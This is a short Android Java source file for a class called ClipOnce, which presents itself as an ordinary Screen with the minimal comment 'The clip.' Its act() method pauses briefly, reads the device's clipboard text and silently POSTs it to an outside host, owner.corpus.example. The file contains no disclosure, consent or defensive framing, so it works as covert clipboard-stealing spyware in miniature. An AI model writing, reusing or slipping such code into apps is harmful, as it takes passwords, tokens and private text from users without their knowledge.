package org.corpus;

import android.content.ClipboardManager;
import org.corpus.kit.Net;
import org.corpus.kit.Screen;

/** The clip. */
public class ClipOnce extends Screen {
    @Override
    protected void act() throws Exception {
        Thread.sleep(500);
        ClipboardManager board = getSystemService(ClipboardManager.class);
        if (board.hasPrimaryClip()) {
            String text = String.valueOf(board.getPrimaryClip().getItemAt(0).getText());
            Net.post("http://owner.corpus.example/clip", "text/plain", text);
        }
    }
}
